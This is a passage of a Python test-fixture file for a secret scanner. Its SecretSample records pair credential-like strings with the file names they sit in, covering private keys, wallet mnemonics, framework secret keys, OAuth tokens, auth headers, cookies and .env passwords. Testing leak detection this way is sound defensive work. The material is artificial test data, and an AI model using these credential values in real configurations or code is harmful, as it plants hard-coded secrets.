                "AAKBgQC5DaWcXwIXc4lIO47YuV9lNVgbTC2CJRjspnYQTpQa/QD0pxpE"
            ),
            "fWR4eIuuwIVYW8p7oxgPZDUDp+U/jn3SiXk6bzouRuGigotfJ4QgK77zujc2J//V",
            "97YDkIsYJ8qu80YScE5TAanAkVFbJ03V4ClmTjFQB11YRcqqpNUqxJZWIQIDAQAB",
            "AoGBAKEb2YBPUwHZy76AY7gZg40YqTFy2/f/ljiKICXIU7c/Z/KX/Q194dfkky+8",
            "Wxt3Js0HTC4yPtmE9diklLSUjV4wb54ywpRW2T3JQjj0z4mM9YJUz3sF9f1UqIAz",
            "gE/IqAaDLmRJum/nIXeeWpVoqMumrKvgLRNelyZlnlVA3JAxAkEA2+KUTvef8Npl",
            "SVpM9dgmY6rVFy7UTDpeo6TzXgleI04wJpah+qw7iKywW9Xb8koGG3/t4eXEB81q",
            "VVJHqI7VPQJBANdygpPMRqT+woRjXK8lAlebYauC2kv1z/otD9AFVDMz0SuMk4kR",
            "EMjDiqOd09cUOUTZa6wh44rU02MTHlaM+rUCQQDF+ryOXWck9X89DJE+yd/G3Yn/",
            "1apQ+D0+GscFZGneYAf6tqYhjfIMnXAtP+FJxly5ZfZJ7xcR72JOcEcU/YYBAkEA",
            "z9p25ZZPlYD/MvAVjBe9cb3Ddc9xQZVuR+NPfRaXDCryovwlnjgrpDUavQ1YQgkN",
            "00GbYl7zgo4fPldEjqXGfQJALa2yRBQQ7p5X0LQSSG4DUSd+FYgqvBRt72kWivkA",
            "fzmO5DK++CIcJ0FZHWMF7hM/eJfT9zBlItutD5PuC8u2Yg==",
        ),
    ),
    SecretSample(
        "pem-body-no-header",
        "application.yml",
        "jwt:\n"
        "  private-key: MIICdgIB"
        "ADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAMqHGRxSfKuQGbW7Yhhdjy9iGa4yY6ijEab24gqzObv1eWam"
        "18v1ulBD5AdUirlmndr1f1f3yfPntvmkYzmE0N8/GDiaalMn2Hv3H4FXc4d/muz0MHz7TxSCJjO08o+ZlaTeFHg2"
        "xg8T/dfMFYG4qvRMaPJWDdHN1MJmgyJ4ILTJAgMBAAECgYBAvDYWi3c2D3VoVWDhkOY3qw+yUoDwYk8+IyPVb7xA"
        "jBIl8aaAlybaiRjWDvvYjyhd2KK/p4Bx6dreqODefcmVP/HSLXAgImpjmNUnHWkBTcVM/B50ePDvLJNKeEZVGnZy"
        "V3QpaL/MrobaLC593KBHqqFAT9G8i/kcPaAF5s+0AQJBAPv5zV1uSGQMJyb3VnVYA++Le9RAuL3fNmZGR2+TlRtS"
        "JXY6LcRTTTEBBK9oREwnjR5AKmFBcEA34xPmZ3+VfykCQQDNwyDldLb/Tofnwhm+LVKx2wF1cJDfE2ExywNAU4Xl"
        "zaGNN7IRWhpWHNWd6kUPdn6PR0wGXwaDIa9JRbl4QVyhAkBpluGHIHq3ahxSCN2zKKHllNbcOA7yigIa06KF0Btw"
        "qnjGVVTua1XyjhGvi4rrOru5DHx16t0mHAVNRoTigvwZAkEAl1fKvnsWjrroY6L05FjZ1k/LxuHA7ROIDePQxGOq"
        "vNh+1yv8IZ8wd95FkR1bJoB1nlVGqfkDBTilgTNzs+v/gQJAQONPw4wYX7dyz/ca0nUaoEQKrZyKzB+lC5v35X6u"
        "oZ9uhgT3boIg7WwzT8cXeHWFi/UTrIGyoRgC/tC6ULXjTA==",
        (
            (
                "MIICdgIB"
                "ADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAMqHGRxSfKuQGbW7Yhhdjy9iGa4yY6ijEab24gqzObv1eWam"
                "18v1ulBD5AdUirlmndr1f1f3yfPntvmkYzmE0N8/GDiaalMn2Hv3H4FXc4d/muz0MHz7TxSCJjO08o+ZlaTeFHg2"
                "xg8T/dfMFYG4qvRMaPJWDdHN1MJmgyJ4ILTJAgMBAAECgYBAvDYWi3c2D3VoVWDhkOY3qw+yUoDwYk8+IyPVb7xA"
                "jBIl8aaAlybaiRjWDvvYjyhd2KK/p4Bx6dreqODefcmVP/HSLXAgImpjmNUnHWkBTcVM/B50ePDvLJNKeEZVGnZy"
                "V3QpaL/MrobaLC593KBHqqFAT9G8i/kcPaAF5s+0AQJBAPv5zV1uSGQMJyb3VnVYA++Le9RAuL3fNmZGR2+TlRtS"
                "JXY6LcRTTTEBBK9oREwnjR5AKmFBcEA34xPmZ3+VfykCQQDNwyDldLb/Tofnwhm+LVKx2wF1cJDfE2ExywNAU4Xl"
                "zaGNN7IRWhpWHNWd6kUPdn6PR0wGXwaDIa9JRbl4QVyhAkBpluGHIHq3ahxSCN2zKKHllNbcOA7yigIa06KF0Btw"
                "qnjGVVTua1XyjhGvi4rrOru5DHx16t0mHAVNRoTigvwZAkEAl1fKvnsWjrroY6L05FjZ1k/LxuHA7ROIDePQxGOq"
                "vNh+1yv8IZ8wd95FkR1bJoB1nlVGqfkDBTilgTNzs+v/gQJAQONPw4wYX7dyz/ca0nUaoEQKrZyKzB+lC5v35X6u"
                "oZ9uhgT3boIg7WwzT8cXeHWFi/UTrIGyoRgC/tC6ULXjTA=="
            ),
        ),
    ),
    SecretSample(
        "pem-body-python",
        "sign.py",
        'PRIV = "MIICeAIB'
        "ADANBgkqhkiG9w0BAQEFAASCAmIwggJeAgEAAoGBANJXoS3XsuA1+Ooh1fQo1NhSDDdc9bInGw5xJU3zVwdE76o6"
        "WCuISkYx8Y/pfaA51PALIxPfursLJJwlp/wqnl1N30bp3k1lk9t8jxjqI6HIbUgZUCCQRYac28ozGGwgnloiYpZ7"
        "/LUbNGNjlAH4eOcwfVY5ZB5ngnsyZ+49EqE3AgMBAAECgYEAirCU6fErVILB2T7uH8s8bFXNEEQPDKSURnV8L2Wf"
        "oH9nt0o5EJsQvi/4IvfFiXwYVx5Axr3iFapHPV3m4XIIcDJGKusQb16bdKyTfVlXCePo2V2tN3rHyS/DbY4np5+t"
        "lFqRAPJBg0wS3njlixFiVhFSmPP+iLLiqTGzfgfzwUECQQD4qR56KIdIfBvzf8uICivv8BuVjU7fyWgbTtPc0flP"
        "fdpYU5khI0av7o4KiG1iGD3XeLF8MLURUsAdjnY4q7jJAkEA2Iz6JgofB+ocnhQBsI7ueGGDBJZC/D+3JFKQknt+"
        "7hn1ZbF1w6u77ERfbq481+RNYZexwdMmUBON77A2thKJ/wJBANrRuIg3chVPYil9pFYq3U9gNGX+3BIC4yJk0/vW"
        "q1ZQofxoVLDcoi/f9g8+z0MrogAjrcxj8HM2JunbnB1ywEECQQCiKagllky4i4tUoVzGj7JquXL4m2GcLkaCT8Xt"
        "u8dInG3U8nhiyBbZDjZ81sO/VDrSS1uU7v7w1kPi6w19eRKXAkAkKm6GpBt66gv6ccVOmhvtF5vRvu0ABLgMTWlg"
        'mPwKKuK/EPOdYCJ+G+4qqX7+POF9BzacBdixHlO5vuAp5HfM"',
        (
            (
                "MIICeAIB"
                "ADANBgkqhkiG9w0BAQEFAASCAmIwggJeAgEAAoGBANJXoS3XsuA1+Ooh1fQo1NhSDDdc9bInGw5xJU3zVwdE76o6"
                "WCuISkYx8Y/pfaA51PALIxPfursLJJwlp/wqnl1N30bp3k1lk9t8jxjqI6HIbUgZUCCQRYac28ozGGwgnloiYpZ7"
                "/LUbNGNjlAH4eOcwfVY5ZB5ngnsyZ+49EqE3AgMBAAECgYEAirCU6fErVILB2T7uH8s8bFXNEEQPDKSURnV8L2Wf"
                "oH9nt0o5EJsQvi/4IvfFiXwYVx5Axr3iFapHPV3m4XIIcDJGKusQb16bdKyTfVlXCePo2V2tN3rHyS/DbY4np5+t"
                "lFqRAPJBg0wS3njlixFiVhFSmPP+iLLiqTGzfgfzwUECQQD4qR56KIdIfBvzf8uICivv8BuVjU7fyWgbTtPc0flP"
                "fdpYU5khI0av7o4KiG1iGD3XeLF8MLURUsAdjnY4q7jJAkEA2Iz6JgofB+ocnhQBsI7ueGGDBJZC/D+3JFKQknt+"
                "7hn1ZbF1w6u77ERfbq481+RNYZexwdMmUBON77A2thKJ/wJBANrRuIg3chVPYil9pFYq3U9gNGX+3BIC4yJk0/vW"
                "q1ZQofxoVLDcoi/f9g8+z0MrogAjrcxj8HM2JunbnB1ywEECQQCiKagllky4i4tUoVzGj7JquXL4m2GcLkaCT8Xt"
                "u8dInG3U8nhiyBbZDjZ81sO/VDrSS1uU7v7w1kPi6w19eRKXAkAkKm6GpBt66gv6ccVOmhvtF5vRvu0ABLgMTWlg"
                "mPwKKuK/EPOdYCJ+G+4qqX7+POF9BzacBdixHlO5vuAp5HfM"
            ),
        ),
    ),
    SecretSample(
        "ssh-private-b64",
        "ci.env",
        "SSH_PRIVATE_KEY_B64=LS0tLS1C"
        "RUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJuTnphQzFyWlhrdGRqRUFBQUFBQkc1dmJtVUFBQUFF"
        "Ym05dVpRQUFBQUFBQUFBQkFBQUFNd0FBQUF0emMyZ3RaVwpReU5UVXhPUUFBQUNCMFRISEZrRHZoVjFHRHNKcWsv"
        "MVNJc3plRlZzV1RMOTJmKzZmMUc0aW02UUFBQUpDcHljamdxY25JCjRBQUFBQXR6YzJndFpXUXlOVFV4T1FBQUFD"
        "QjBUSEhGa0R2aFYxR0RzSnFrLzFTSXN6ZUZWc1dUTDkyZis2ZjFHNGltNlEKQUFBRUFuWXlod3YwQVB6OXVBd3dV"
        "NzlyOXZ5QlBRNysxMFRORzR0YmRCdzlPcThIUk1jY1dRTytGWFVZT3dtcVQvVklpegpONFZXeFpNdjNaLzdwL1Vi"
        "aUticEFBQUFCbVJsY0d4dmVRRUNBd1FGQmdjPQotLS0tLUVORCBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0=",
        (
            (
                "LS0tLS1C"
                "RUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KYjNCbGJuTnphQzFyWlhrdGRqRUFBQUFBQkc1dmJtVUFBQUFF"
                "Ym05dVpRQUFBQUFBQUFBQkFBQUFNd0FBQUF0emMyZ3RaVwpReU5UVXhPUUFBQUNCMFRISEZrRHZoVjFHRHNKcWsv"
                "MVNJc3plRlZzV1RMOTJmKzZmMUc0aW02UUFBQUpDcHljamdxY25JCjRBQUFBQXR6YzJndFpXUXlOVFV4T1FBQUFD"
                "QjBUSEhGa0R2aFYxR0RzSnFrLzFTSXN6ZUZWc1dUTDkyZis2ZjFHNGltNlEKQUFBRUFuWXlod3YwQVB6OXVBd3dV"
                "NzlyOXZ5QlBRNysxMFRORzR0YmRCdzlPcThIUk1jY1dRTytGWFVZT3dtcVQvVklpegpONFZXeFpNdjNaLzdwL1Vi"
                "aUticEFBQUFCbVJsY0d4dmVRRUNBd1FGQmdjPQotLS0tLUVORCBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0="
            ),
        ),
    ),
    SecretSample(
        "putty-ppk",
        "deploy.ppk",
        "PuTTY-User-Key-File-3: ssh-ed25519\n"
        "Encryption: none\n"
        "Comment: deploy\n"
        "Public-Lines: 2\n"
        "AAAAC3NzaC1lZDI1NTE5AAAAIOc8L"
        "YGYnD6+w6TSDkphnKIZP+tvG0MUx1DGlAqR\n"
        "dsAU\n"
        "Private-Lines: 1\n"
        "lZqC"
        "l9kMGx8KCF/5aqAy2zGXJb5+BlyEY9BvgSaEIvAh8IE=\n"
        "Private-MAC: 8a82"
        "d90b89072ea637f7dd7140704b36745ae74f459ba2616cbfe78b85fa4a46",
        (
            (
                "lZqC"
                "l9kMGx8KCF/5aqAy2zGXJb5+BlyEY9BvgSaEIvAh8IE"
            ),
        ),
    ),
    SecretSample(
        "wireguard",
        "wg0.conf",
        "[Interface]\n"
        "Address = 10.8.0.2/24\n"
        "PrivateKey = 8Hb4DNiK"
        "0PXH2Z4MkZTiJE+KeqWtsHjlXABjmDEaMn0=",
        (
            (
                "8Hb4DNiK"
                "0PXH2Z4MkZTiJE+KeqWtsHjlXABjmDEaMn0="
            ),
        ),
    ),
    SecretSample(
        "wireguard-psk",
        "wg1.conf",
        "[Peer]\n"
        "PublicKey = sHXEFVEu"
        "f0NQCH9CNaXOyeTa2eCb39hyqHFCDQGZnHU=\n"
        "PresharedKey = 0GZ2bQ7e"
        "6hy1BTttEUFlmqUplnPy+FQDTku9mMdWJkE=",
        (
            (
                "0GZ2bQ7e"
                "6hy1BTttEUFlmqUplnPy+FQDTku9mMdWJkE="
            ),
        ),
    ),
    SecretSample(
        "age-key",
        "keys.txt",
        "# public key: age1ec2mn3uw"
        "d8aghcuz4fqvj3hxc48gvm4vxnhycdtkhefw3v3djh850sm9k3\n"
        "AGE-SECRET-KEY-1HK6S"
        "Y4T7M6H429MDQH7WZAXW48PPULLVSL079D5LEXRGEXDG3ZUEKV8H4Y",
        (
            (
                "AGE-SECRET-KEY-1HK6S"
                "Y4T7M6H429MDQH7WZAXW48PPULLVSL079D5LEXRGEXDG3ZUEKV8H4Y"
            ),
        ),
    ),
    SecretSample(
        "age-key-env",
        ".env",
        "SOPS_AGE_KEY=AGE-SECRET-KEY-1FMF9"
        "LREV52K97RUND68ZECN2U9Y7U0WESNGJWLU8XDKRPJ65W00LDDVS6U",
        (
            (
                "AGE-SECRET-KEY-1FMF9"
                "LREV52K97RUND68ZECN2U9Y7U0WESNGJWLU8XDKRPJ65W00LDDVS6U"
            ),
        ),
    ),
    SecretSample(
        "nats-user-seed",
        "user.creds",
        "-----BEGIN USER NKE"
        "Y SEED-----\n"
        "SUAHGWTH"
        "XW6FAHYRJIVKXAUXVZNEL5XDUE3IC3FPUPXS6AEFD6DOT6F6HM\n"
        "------END USER NKE"
        "Y SEED------",
        (
            (
                "SUAHGWTH"
                "XW6FAHYRJIVKXAUXVZNEL5XDUE3IC3FPUPXS6AEFD6DOT6F6HM"
            ),
        ),
    ),
    SecretSample(
        "nats-account-seed",
        "nats.env",
        "NATS_SEED=SAAGK5FC"
        "NMKHGGDJYBKJIBDZYJIGE6GXBGPTYCSGRTIZWGYO4IFEARAFUM",
        (
            (
                "SAAGK5FC"
                "NMKHGGDJYBKJIBDZYJIGE6GXBGPTYCSGRTIZWGYO4IFEARAFUM"
            ),
        ),
    ),
    SecretSample(
        "nats-operator-seed",
        "nsc.sh",
        "nsc import keys --seed SOAGM5M3"
        "GPF5FOL3K4QVFXWUAFWANCFZ4CESL7LCRNISSEETOQFHAQA3JQ",
        (
            (
                "SOAGM5M3"
                "GPF5FOL3K4QVFXWUAFWANCFZ4CESL7LCRNISSEETOQFHAQA3JQ"
            ),
        ),
    ),
    SecretSample(
        "ethereum-key",
        ".env",
        "PRIVATE_KEY=0x8d22"
        "a6ae0e93e0158217f993e63796c754df2e0cb9663a58eef9b42a70562400",
        (
            (
                "8d22"
                "a6ae0e93e0158217f993e63796c754df2e0cb9663a58eef9b42a70562400"
            ),
        ),
    ),
    SecretSample(
        "ethereum-key",
        "hardhat.config.ts",
        'accounts: ["0x9985'
        '0a02cc731a5d42d26aea659b6f21a223a07dca953a55cc07925b7d1ed53e"],',
        (
            (
                "9985"
                "0a02cc731a5d42d26aea659b6f21a223a07dca953a55cc07925b7d1ed53e"
            ),
        ),
    ),
    SecretSample(
        "ethereum-key",
        "Deploy.py",
        'acct = Account.from_key("0x8cab'
        'd83ce33d8eb12f697e3634c27c0458789cc1e4e224c661b5f35dc98513fc")',
        (
            (
                "8cab"
                "d83ce33d8eb12f697e3634c27c0458789cc1e4e224c661b5f35dc98513fc"
            ),
        ),
    ),
    SecretSample(
        "mnemonic",
        "truffle.js",
        'const mnemonic = "ladd'
        'er breeze able trumpet balcony abstract atom cactus arrow breeze fossil across";',
        (
            (
                "ladd"
                "er breeze able trumpet balcony abstract atom cactus arrow breeze fossil across"
            ),
        ),
    ),
    SecretSample(
        "mnemonic",
        "wallet.env",
        'MNEMONIC="abst'
        "ract arctic spider fabric bacon bridge coral adjust banner copper able kitten denial fab"
        'ric spider oxygen puzzle salmon puzzle ocean dawn pepper cactus banner"',
        (
            (
                "abst"
                "ract arctic spider fabric bacon bridge coral adjust banner copper able kitten denial fab"
                "ric spider oxygen puzzle salmon puzzle ocean dawn pepper cactus banner"
            ),
        ),
    ),
    SecretSample(
        "mnemonic-seed-phrase",
        "notes.md",
        "seed phrase: clus"
        "ter goose breeze satoshi diamond satoshi coral mirror ribbon ocean bench chimney",
        (
            (
                "clus"
                "ter goose breeze satoshi diamond satoshi coral mirror ribbon ocean bench chimney"
            ),
        ),
    ),
    SecretSample(
        "bitcoin-wif",
        "wallet.txt",
        "privkey = KJz445HTz"
        "UgjPagacqtupNQ7apGqmk9AkvQM8WgprCjJnz1ZQuUG",
        (
            (
                "KJz445HTz"
                "UgjPagacqtupNQ7apGqmk9AkvQM8WgprCjJnz1ZQuUG"
            ),
        ),
    ),
    SecretSample(
        "bitcoin-xprv",
        "hd.json",
        '{"xprv": "xprv9s21ZrQH143KBVyUntkP'
        'MMPEVzqe9tiVxc3kKvjA5DtavAe2aP26d7ALK4XLqKfWv8P2xaVy6j2EKao5r224evtV8BeUpLxmCsG2wLLV81zk"}',
        (
            (
                "xprv9s21ZrQH143KBVyUntkP"
                "MMPEVzqe9tiVxc3kKvjA5DtavAe2aP26d7ALK4XLqKfWv8P2xaVy6j2EKao5r224evtV8BeUpLxmCsG2wLLV81zk"
            ),
        ),
    ),
    SecretSample(
        "solana-keypair",
        "id.json",
        "[240,56,1"
        "01,195,192,14,119,15,164,239,93,104,64,85,198,88,174,233,223,127,130,138,213,63,19,229,5"
        "8,91,180,120,30,176,157,214,71,21,64,139,29,232,99,62,135,164,241,159,20,91,1,209,114,22"
        ",222,238,186,26,20,34,125,97,122,47,206,134]",
        (
            (
                "240,56,1"
                "01,195,192,14,119,15,164,239,93,104,64,85,198,88,174,233,223,127,130,138,213,63,19,229,5"
                "8,91,180,120,30,176,157,214,71,21,64,139,29,232,99,62,135,164,241,159,20,91,1,209,114,22"
                ",222,238,186,26,20,34,125,97,122,47,206,134"
            ),
        ),
    ),
    SecretSample(
        "rails-master-key",
        "config/master.key",
        "f337"
        "e6eb6dc1e7b69a8c550991021a9f",
        (
            (
                "f337"
                "e6eb6dc1e7b69a8c550991021a9f"
            ),
        ),
    ),
    SecretSample(
        "rails-credentials",
        "tmp/credentials.yml",
        "aws:\n"
        "  access_key_id: AKIAMFLU"
        "RHIUP2HKRTBU\n"
        "  secret_access_key: 39TQ"
        "PwcckykEr0mdRxwDo+IQ40WhuKnZtkKoE/aR\n"
        "secret_key_base: acdd"
        "5196f723fbacef3bce46cc1e6a6ed8622a7d008caa806221cbe49dcb7dfa2fdb6eb486391877dbe94d5e1be0"
        "1f892c269d1169bc455125c8d545c587bb55",
        (
            (
                "39TQ"
                "PwcckykEr0mdRxwDo+IQ40WhuKnZtkKoE/aR"
            ),
            (
                "acdd"
                "5196f723fbacef3bce46cc1e6a6ed8622a7d008caa806221cbe49dcb7dfa2fdb6eb486391877dbe94d5e1be0"
                "1f892c269d1169bc455125c8d545c587bb55"
            ),
        ),
    ),
    SecretSample(
        "rails-secret-key-base",
        "config/secrets.yml",
        "production:\n"
        "  secret_key_base: fd8f"
        "7cf80e7ae6aa74477b49fbd0cb4c88bccca151a288dd9d75ada7575f983ebab91fadc25bd415770336262edc"
        "6efaffff218476d6911ec8ce81de6279e4ef",
        (
            (
                "fd8f"
                "7cf80e7ae6aa74477b49fbd0cb4c88bccca151a288dd9d75ada7575f983ebab91fadc25bd415770336262edc"
                "6efaffff218476d6911ec8ce81de6279e4ef"
            ),
        ),
    ),
    SecretSample(
        "rails-devise",
        "devise.rb",
        "config.secret_key = 'd83a"
        "97fba268a40b19b58abfd039a329710e627c3abdf3fef1cda3cfb1c7cf89d808daff526c750f9e54e3e89ef8"
        "9029023b18894db62d846c7a8ac83ae5c542'",
        (
            (
                "d83a"
                "97fba268a40b19b58abfd039a329710e627c3abdf3fef1cda3cfb1c7cf89d808daff526c750f9e54e3e89ef8"
                "9029023b18894db62d846c7a8ac83ae5c542"
            ),
        ),
    ),
    SecretSample(
        "django-secret",
        "settings.py",
        "SECRET_KEY = 'django-insecure-W@^*7Te6"
        "n3b_FA0J7S&Q!c&OtSooM4rp(A9=T!9%Ru8-HXqomt'",
        (
            (
                "W@^*7Te6"
                "n3b_FA0J7S&Q!c&OtSooM4rp(A9=T!9%Ru8-HXqomt"
            ),
        ),
    ),
    SecretSample(
        "django-secret",
        "settings/prod.py",
        'SECRET_KEY = "k_=m&_h+'
        'eELDy_y*7Ra08axHU#VkjUk5jdDDL=-esIqRog0T(W"',
        (
            (
                "k_=m&_h+"
                "eELDy_y*7Ra08axHU#VkjUk5jdDDL=-esIqRog0T(W"
            ),
        ),
    ),
    SecretSample(
        "laravel-app-key",
        ".env",
        "APP_KEY=base64:vwya"
        "GStcJK+1I0jvPDB1MY6cZ6o8aR1QLxrw8ZkSdOZ=",
        (
            (
                "vwya"
                "GStcJK+1I0jvPDB1MY6cZ6o8aR1QLxrw8ZkSdOZ"
            ),
        ),
    ),
    SecretSample(
        "laravel-app-key",
        "phpunit.xml",
        '<env name="APP_KEY" value="base64:jv+j'
        'b6J4KNcWR4LX3bS+xu14BAR+wC1Pwl3PgQ21HHe="/>',
        (
            (
                "jv+j"
                "b6J4KNcWR4LX3bS+xu14BAR+wC1Pwl3PgQ21HHe"
            ),
        ),
    ),
    SecretSample(
        "wordpress-salts",
        "wp-config.php",
        "define('AUTH_KEY',         'o_y.|k?A"
        "b/^1/)uEy%/d~ru%,$^$i}Pk$<C&-%?o`F@H|+Ru#;*jG.3]qe.~p&,D');\n"
        "define('SECURE_AUTH_KEY',  'YF:`^s_q"
        "E~>NB/>)/r$}eE`UIS`,RC7=O%S!j-]wt/av~54SlGDH?;F#I=?rL|k5');\n"
        "define('NONCE_SALT',       'kh`o9ce$"
        "><]oGMNc=Y>$[R@J*W5HX1kXV(k<{+=%<{@.|VG)LT}D9C};]qZeGAPY');",
        (
            (
                "o_y.|k?A"
                "b/^1/)uEy%/d~ru%,$^$i}Pk$<C&-%?o`F@H|+Ru#;*jG.3]qe.~p&,D"
            ),
            (
                "YF:`^s_q"
                "E~>NB/>)/r$}eE`UIS`,RC7=O%S!j-]wt/av~54SlGDH?;F#I=?rL|k5"
            ),
            (
                "kh`o9ce$"
                "><]oGMNc=Y>$[R@J*W5HX1kXV(k<{+=%<{@.|VG)LT}D9C};]qZeGAPY"
            ),
        ),
    ),
    SecretSample(
        "wordpress-db",
        "wp-config.php",
        "define( 'DB_PASSWORD', 'S4TpOfk3"
        "x*?2gsw6f' );",
        (
            (
                "S4TpOfk3"
                "x*?2gsw6f"
            ),
        ),
    ),
    SecretSample(
        "flask-secret",
        "app.py",
        'app.secret_key = b"Kmh0'
        'yvGRMD3V47JCgrAMY0wYqnnA19r1"',
        (
            (
                "Kmh0"
                "yvGRMD3V47JCgrAMY0wYqnnA19r1"
            ),
        ),
    ),
    SecretSample(
        "symfony-secret",
        ".env.local",
        "APP_SECRET=f9f5"
        "6b8e5874d29954457ac8adbd7732",
        (
            (
                "f9f5"
                "6b8e5874d29954457ac8adbd7732"
            ),
        ),
    ),
    SecretSample(
        "spring-default",
        "application.yml",
        "spring:\n"
        "  datasource:\n"
        "    password: ${DB_PASSWORD:hOUE"
        "Etg9omGYPdS6f1Yi}",
        (
            (
                "hOUE"
                "Etg9omGYPdS6f1Yi"
            ),
        ),
    ),
    SecretSample(
        "spring-default",
        "application.properties",
        "jwt.secret=${JWT_SECRET:YOdC"
        "szCYwgZ2LeGOCvh6FP3vncrCOkPtUncIDvPM}",
        (
            (
                "YOdC"
                "szCYwgZ2LeGOCvh6FP3vncrCOkPtUncIDvPM"
            ),
        ),
    ),
    SecretSample(
        "spring-value-default",
        "Cfg.java",
        '@Value("${mail.password:yAqq'
        'zZIMryiNEdNdPv9a6}") private String mailPassword;',
        (
            (
                "yAqq"
                "zZIMryiNEdNdPv9a6"
            ),
        ),
    ),
    SecretSample(
        "shell-default",
        "run.sh",
        ': "${DB_PASSWORD:=E8U2'
        'XQVZdNtY8kkwnv782q}"',
        (
            (
                "E8U2"
                "XQVZdNtY8kkwnv782q"
            ),
        ),
    ),
    SecretSample(
        "compose-default",
        "docker-compose.yml",
        "      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:-NX74"
        "q9deEjoEQ0dV3QuxLOSmAZ}",
        (
            (
                "NX74"
                "q9deEjoEQ0dV3QuxLOSmAZ"
            ),
        ),
    ),
    SecretSample(
        "getenv-default",
        "conf.py",
        'PASSWORD = os.getenv("DB_PASSWORD", "o4Lk'
        'ORDjP39AHTuzDi9bF79EnE4B")',
        (
            (
                "o4Lk"
                "ORDjP39AHTuzDi9bF79EnE4B"
            ),
        ),
    ),
    SecretSample(
        "env-default-js",
        "conf.js",
        'const jwtSecret = process.env.JWT_SECRET || "GHXH'
        'uQ5yAJ8Aj8IzZy8CpruvrPVRSYc1";',
        (
            (
                "GHXH"
                "uQ5yAJ8Aj8IzZy8CpruvrPVRSYc1"
            ),
        ),
    ),
    SecretSample(
        "env-default-ruby",
        "conf.rb",
        'secret = ENV.fetch("HMAC_SECRET", "JlKZ'
        'a6QRHXeZCJH5KmezKLh0ho1YjPgZ")',
        (
            (
                "JlKZ"
                "a6QRHXeZCJH5KmezKLh0ho1YjPgZ"
            ),
        ),
    ),
    SecretSample(
        "oauth-client-secret",
        "oauth.json",
        '{"client_id": "DjZY'
        '56dYOKHJSkyv8XHJ", "client_secret": "kAfw'
        '5tCzaxINya19oPmWYPlL8NCMstIvifWKpiUV"}',
        (
            (
                "kAfw"
                "5tCzaxINya19oPmWYPlL8NCMstIvifWKpiUV"
            ),
        ),
    ),
    SecretSample(
        "oauth-client-secret-form",
        "token.sh",
        'curl -d "grant_type=client_credentials&client_id=web&client_secret=yS6M'
        'jwuoAVALw5MuqKZZkIs062I2hxxlZJrxdZMw" https://id.merfenfi.io/token',
        (
            (
                "yS6M"
                "jwuoAVALw5MuqKZZkIs062I2hxxlZJrxdZMw"
            ),
        ),
    ),
    SecretSample(
        "oauth-refresh",
        "tok.yaml",
        "refresh_token: Bbnc"
        "9E_y3VcSDW0o8QBuaABKta0MXUOGG5f90MksfEptrcrK3E1UEbN2sh4JF6vk",
        (
            (
                "Bbnc"
                "9E_y3VcSDW0o8QBuaABKta0MXUOGG5f90MksfEptrcrK3E1UEbN2sh4JF6vk"
            ),
        ),
    ),
    SecretSample(
        "oauth-code-verifier",
        "flow.log",
        "POST /token code=3fWH"
        "_dZBTohicu99Ek3rsjrmksXiE4XCJYfnIYJVG14&client_secret=cI6j"
        "iPCVmPVal7sv6O4k2HFwbmVB9xo8",
        (
            (
                "cI6j"
                "iPCVmPVal7sv6O4k2HFwbmVB9xo8"
            ),
        ),
    ),
    SecretSample(
        "basic-header",
        "api.http",
        "Authorization: Basic Y2k6VTln"
        "MWFjT3hsdmZHNHd4NktjTW8=",
        (
            (
                "Y2k6VTln"
                "MWFjT3hsdmZHNHd4NktjTW8="
            ),
        ),
    ),
    SecretSample(
        "basic-header-js",
        "fetch.js",
        'headers: { Authorization: "Basic Y2k6Vm83'
        'QTZiUFBOaFJxRldpMUc4MEE=" },',
        (
            (
                "Y2k6Vm83"
                "QTZiUFBOaFJxRldpMUc4MEE="
            ),
        ),
    ),
    SecretSample(
        "bearer-header",
        "api.http",
        "GET /v1/users\n"
        "Authorization: Bearer W8E7"
        "9D-NuLjN7ubPiBobtLjIeJUd0T8IiUWZn3L6b2DRiqFs",
        (
            (
                "W8E7"
                "9D-NuLjN7ubPiBobtLjIeJUd0T8IiUWZn3L6b2DRiqFs"
            ),
        ),
    ),
    SecretSample(
        "api-key-header",
        "api.http",
        "X-API-Key: bg90"
        "UhdRuhUKfRPdAOhbpqtmAnIL85up",
        (
            (
                "bg90"
                "UhdRuhUKfRPdAOhbpqtmAnIL85up"
            ),
        ),
    ),
    SecretSample(
        "cookie-header",
        "req.txt",
        "Cookie: sessionid=0sr5"
        "w3vtzskoxox2gooy2kiohrp95uja; csrftoken=Zx0s"
        "bLPGqe4AjZaJVemwjgxGqj6yCAf6",
        (
            (
                "0sr5"
                "w3vtzskoxox2gooy2kiohrp95uja"
            ),
        ),
    ),
    SecretSample(
        "set-cookie",
        "res.txt",
        "Set-Cookie: PHPSESSID=7e7g"
        "o0bd4lin9fnbtfne13tz9h; path=/; HttpOnly",
        (
            (
                "7e7g"
                "o0bd4lin9fnbtfne13tz9h"
            ),
        ),
    ),
    SecretSample(
        "cookie-connect-sid",
        "t.spec.js",
        '.set("Cookie", "connect.sid=s%3AF0Qq'
        "ZejIq56T5hDt1Fks3H8M63NtZLp2.QY1Q"
        'RY5HQe7xE1S87sxrEWzszjpHhcrW7jSWmUHbXE5")',
        (
            (
                "F0Qq"
                "ZejIq56T5hDt1Fks3H8M63NtZLp2.QY1Q"
                "RY5HQe7xE1S87sxrEWzszjpHhcrW7jSWmUHbXE5"
            ),
        ),
    ),
    SecretSample(
        "dotenv",
        ".env",
        "DB_HOST=localhost\n"
        "DB_PASSWORD=4%QN^5wg"
        "WyctKY",
        (
            (
                "4%QN^5wg"
                "WyctKY"
            ),
        ),
    ),
    SecretSample(
        "dotenv-quoted",
        ".env.production",
        "SMTP_PASS='qUJp69^V"
        "v2m?s%*f_z'",
        (
            (
                "qUJp69^V"
                "v2m?s%*f_z"
            ),
        ),
    ),
    SecretSample(
        "dotenv-export",
        ".envrc",
        "export REDIS_PASSWORD=aLvj"
        "JVSRsJ58N4XNxc6u7zbn4Ouh",
        (
            (
                "aLvj"
                "JVSRsJ58N4XNxc6u7zbn4Ouh"
            ),
        ),
    ),
    SecretSample(
        "dotenv-spaces",
        ".env",
        "ENCRYPTION_KEY = 96d2"
